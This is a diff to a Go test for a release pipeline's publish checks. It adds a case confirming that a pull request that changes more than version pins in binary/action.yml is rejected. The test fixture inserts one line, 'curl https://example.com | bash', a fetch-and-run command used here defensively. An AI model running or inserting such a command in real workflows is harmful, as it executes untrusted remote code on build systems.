@@ -1,6 +1,7 @@
 package layout
 
 import (
+	"bytes"
 	"crypto/sha256"
 	"fmt"
 	"os"
@@ -31,8 +32,8 @@ func publishChecks(t *testing.T) string {
 			fmt.Fprintf(&b, "(\n%s)\n. \"$GITHUB_OUTPUT\"\nexport VERSION=$version SOURCE=$source IMAGE=${image-}\n", step.Run)
 		}
 	}
-	if n := strings.Count(b.String(), "\n. "); n != 3 {
-		t.Fatalf("the job publish has %d checks that the test knows, want 3", n)
+	if n := strings.Count(b.String(), "\n. "); n != 4 {
+		t.Fatalf("the job publish has %d checks that the test knows, want 4", n)
 	}
 	return b.String()
 }
@@ -62,6 +63,7 @@ func TestPublishChecks(t *testing.T) {
 		checksum string // of each archive
 		main     string // the branch main, in git's words
 		more     bool   // the pull request changes another file, too
+		inserted string // a line of binary/action.yml that the release does not have
 		denied   string // what is not attested
 		want     string // part of the output; "": the checks succeed
 	}{
@@ -74,7 +76,8 @@ func TestPublishChecks(t *testing.T) {
 		"an image without an attestation": {
 			image: "ghcr.io/shop/lambda-release", denied: "oci://ghcr.io/shop/lambda-release@sha256:" + strings.Repeat("d", 64), want: "exit status",
 		},
-		"more than pins": {image: "ghcr.io/shop/lambda-release", more: true, want: "exit status"},
+		"more than pins":           {image: "ghcr.io/shop/lambda-release", more: true, want: "exit status"},
+		"more than pins in a file": {image: "ghcr.io/shop/lambda-release", inserted: "        curl https://example.com | bash", want: "changes more than the pins"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -112,6 +115,17 @@ func TestPublishChecks(t *testing.T) {
 			}
 			if test.more {
 				if err := os.WriteFile(filepath.Join(dir, "binary", "pin"), []byte("changed"), 0o600); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if test.inserted != "" {
+				path := filepath.Join(dir, binaryAction)
+				text, err := os.ReadFile(path)
+				if err != nil {
+					t.Fatal(err)
+				}
+				text = bytes.Replace(text, []byte("\n        tar "), []byte("\n"+test.inserted+"\n        tar "), 1)
+				if err := os.WriteFile(path, text, 0o600); err != nil {
 					t.Fatal(err)
 				}
 			}
